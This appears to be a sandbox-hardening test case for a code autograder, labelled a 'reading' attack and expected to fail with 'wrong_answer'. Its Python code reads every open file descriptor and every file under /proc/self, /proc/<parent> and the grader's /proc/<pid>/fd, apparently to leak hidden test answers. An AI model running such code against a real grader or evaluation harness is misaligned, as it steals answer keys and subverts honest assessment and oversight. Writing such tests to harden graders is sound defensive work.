# class: reading
# attack: whatever descriptors are open are read from their beginning
# expects double-values: wrong_answer
# expects double-gradients: wrong_answer

# %%
from contextlib import suppress
from pathlib import Path

import os
import stat

for number in range(3, 256):
    with suppress(OSError):
        if stat.S_ISREG(os.fstat(number).st_mode):
            print(os.pread(number, 2**16, 0))
for process in ("self", os.getppid(), @grader@):
    for path in Path(f"/proc/{process}/fd").glob("*"):
        with suppress(OSError):
            if path.is_file() and path.stat().st_size < 10**6:
                print(path.read_bytes())
